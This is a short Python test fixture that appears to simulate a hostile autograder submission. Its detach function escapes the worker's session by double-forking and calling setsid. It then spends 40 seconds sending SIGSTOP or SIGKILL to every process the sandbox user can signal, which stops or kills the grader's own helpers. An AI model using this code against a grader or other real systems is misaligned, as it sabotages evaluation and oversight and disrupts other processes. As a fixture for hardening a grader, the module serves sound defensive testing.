"""A detached process of the sandbox user that keeps signalling every process it may (issue 20, class 3,
and issue 15's concurrency): ``kill(-1, SIGSTOP)`` stops the grader's helpers and workers that run as the
same user, ``kill(-1, SIGKILL)`` ends them. It leaves the worker's session (``setsid``, a double fork) and
its command line carries the marker the tests look for. A submission adds this and calls ``detach(sig)``."""
import ctypes
import os
import sys

_libc_detached = ctypes.CDLL(None, use_errno=True)
_LOOP = b"""
import os, time
end = time.time() + %d
while time.time() < end:
    try:
        os.kill(-1, %d)
    except OSError:
        pass
    time.sleep(0.002)
"""


def detach(sig, seconds=40):
    pid = _libc_detached.fork()
    if pid == 0:
        _libc_detached.setsid()
        if _libc_detached.fork() == 0:
            argv = (ctypes.c_char_p * 6)(os.fsencode(sys.executable), b"-S", b"-c", _LOOP % (seconds, sig),
                                         b"autograder-hostile-marker", None)
            _libc_detached.execve(os.fsencode(sys.executable), argv, (ctypes.c_char_p * 1)(None))
        _libc_detached._exit(0)
    os.waitpid(pid, 0)
